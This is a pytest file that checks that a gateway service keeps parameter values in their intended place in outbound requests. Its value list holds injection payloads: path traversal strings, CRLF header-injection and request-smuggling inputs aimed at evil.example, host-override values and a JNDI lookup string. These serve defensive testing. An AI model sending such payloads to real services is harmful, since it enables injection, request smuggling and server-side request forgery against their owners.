"""A value stays in the place that the file gives it: no other path, host or header, and no second request."""

# ruff: noqa: RUF001 - characters that look like others are what some of these are about

import json
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.contract.ask import Ask, Question
from tests.faults.process import serving
from tests.faults.recorder import Recorder

FUNCTIONS = ("gateway", "sync")

VALUES = [
    ".",
    "..",
    "...",
    "%2e%2e",
    "%2E.",
    "%252e%252e",
    "..;",
    "../../admin",
    "..\\..\\admin",
    "..%2fadmin",
    "a/b",
    "//evil.example/",
    "a\\b",
    "@evil.example",
    "user:password@evil.example",
    "http://evil.example/",
    "evil.example:80",
    "?admin=1",
    "a&admin=1",
    "a=1;admin=1",
    "#fragment",
    "a b",
    "+",
    "%",
    "%00",
    "%0d%0aX-Evil: 1",
    "a\r\nX-Evil: 1",
    "a\nX-Evil: 1",
    "a\rX-Evil: 1",
    "a\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "a HTTP/1.1\r\nX-Evil: 1\r\nX: ",
    "a\tb",
    "a\0b",
    "\x7f",
    "\x85X-Evil: 1",
    "\u2028X-Evil: 1",
    "č\u010dĊ\u010a",  # whose low bytes are those of a line break
    "嘍嘊X-Evil: 1",  # likewise
    "‥",
    "．．",
    "／",
    "＠evil.example",
    "é",
    "e\u0301",
    "😀",
    "{geo.name}",
    "{$base}",
    "{{value}}",
    "[::1]",
    '", "admin": true, "x": "',
    "${jndi:ldap://evil.example/x}",
    "x" * 4000,
]

TOML = """
[sources.segment]
url = "{base}/items/{{value}}/end?fixed=1"
[sources.part]
url = "{base}/items/a{{value}}z/end?fixed=1"
[sources.query]
url = "{base}/items/end?q={{value}}&fixed=1"
[sources.header]
url = "{base}/items/end?fixed=1"
headers = {{ X-Value = "a{{value}}z" }}
[sources.body]
url = "{base}/items/end?fixed=1"
method = "POST"
body = {{ value = "{{value}}", text = "a{{value}}z", fixed = 1 }}
"""
PARAMETER = """
[endpoints.{name}]
path = "/{name}"
sources = ["{name}"]
[endpoints.{name}.parameters.value]
min_length = 0
max_length = 4096
"""
HEADERS = {"host", "accept", "accept-encoding", "user-agent", "connection", "content-type", "content-length", "x-value"}


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    """Write down what comes."""
    with Recorder() as running:
        yield running


@pytest.fixture(scope="module")
def functions(recorder: Recorder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Ask]]:
    """Serve a source for each place that a value can have."""
    toml = TOML.format(base=f"http://127.0.0.1:{recorder.port}")
    toml += "".join(PARAMETER.format(name=name) for name in ("segment", "part", "query", "header", "body"))
    with serving(toml, tmp_path_factory.mktemp("injection")) as served:
        yield served


def sent(ask: Ask, recorder: Recorder, place: str, value: str) -> tuple[str, dict[str, str], bytes] | None:
    """Ask with a value, and read the one request that came of it, if any: its target, headers and body."""
    recorder.requests.clear()
    reply = ask(Question(f"/{place}", f"value={quote(value, safe='')}"))
    if not recorder.requests:
        assert reply.status in {422, 414}, reply
        return None
    (request,) = recorder.requests
    head, _, body = request.partition(b"\r\n\r\n")
    line, *headers = head.decode("latin-1").split("\r\n")
    method, target, version = line.split(" ")
    assert (method, version) == ("POST" if place == "body" else "GET", "HTTP/1.1")
    fields = {name.lower(): text for name, _, text in (header.partition(": ") for header in headers)}
    assert set(fields) <= HEADERS
    assert len(fields) == len(headers)
    assert fields["host"] == f"127.0.0.1:{recorder.port}"
    return target, fields, body


@pytest.mark.parametrize("function", FUNCTIONS)
@pytest.mark.parametrize("value", VALUES, ids=ascii)
class TestValues:
    """From a parameter to the wire."""

    def test_in_a_path_segment(self, functions: dict[str, Ask], recorder: Recorder, function: str, value: str) -> None:
        """It is one segment, whatever is in it, and none that means another."""
        for place, segment in (("segment", quote(value, safe="")), ("part", f"a{quote(value, safe='')}z")):
            request = sent(functions[function], recorder, place, value)
            if segment.replace("%2E", ".").replace("%2e", ".") in {"", ".", ".."}:
                assert request is None
            elif request:
                assert request[0] == f"/items/{segment}/end?fixed=1"

    def test_in_the_query(self, functions: dict[str, Ask], recorder: Recorder, function: str, value: str) -> None:
        """It is one value."""
        request = sent(functions[function], recorder, "query", value)
        assert request
        assert request[0] == f"/items/end?q={quote(value, safe='')}&fixed=1"

    def test_in_a_header(self, functions: dict[str, Ask], recorder: Recorder, function: str, value: str) -> None:
        """Printable ASCII as it is; anything else is refused."""
        request = sent(functions[function], recorder, "header", value)
        assert (request is not None) == (value.isascii() and value.isprintable())
        if request:
            assert request[0] == "/items/end?fixed=1"
            assert request[1]["x-value"] == f"a{value}z"

    def test_in_a_body(self, functions: dict[str, Ask], recorder: Recorder, function: str, value: str) -> None:
        """It is one text of the JSON."""
        request = sent(functions[function], recorder, "body", value)
        assert request
        assert json.loads(request[2]) == {"value": value, "text": f"a{value}z", "fixed": 1}
